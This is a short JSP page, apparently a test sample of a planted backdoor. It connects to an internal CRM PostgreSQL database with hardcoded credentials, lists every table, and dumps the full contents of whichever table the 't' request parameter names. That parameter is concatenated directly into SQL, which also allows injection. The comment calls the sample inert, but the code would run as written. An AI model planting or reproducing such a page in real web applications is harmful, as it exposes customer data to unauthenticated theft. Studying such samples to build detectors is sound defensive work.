<%@ page import="java.sql.*" contentType="text/html; charset=UTF-8" %>
<%-- inert test sample: a planted page that lists the tables and dumps the one the request names --%>
<%
    Class.forName("org.postgresql.Driver");
    Connection db = DriverManager.getConnection("jdbc:postgresql://10.0.0.5:5432/crm", "report", "report");
    Statement st = db.createStatement();
    if (request.getParameter("t") == null) {
        ResultSet names = st.executeQuery("select table_name from information_schema.tables");
        while (names.next()) {
            out.print("<a href='?t=" + names.getString(1) + "'>" + names.getString(1) + "</a><br>");
        }
    } else {
        ResultSet rows = st.executeQuery("select * from " + request.getParameter("t"));
        int n = rows.getMetaData().getColumnCount();
        while (rows.next()) {
            for (int i = 1; i <= n; i++) out.print(rows.getString(i) + "\t");
            out.print("<br>");
        }
    }
    db.close();
%>
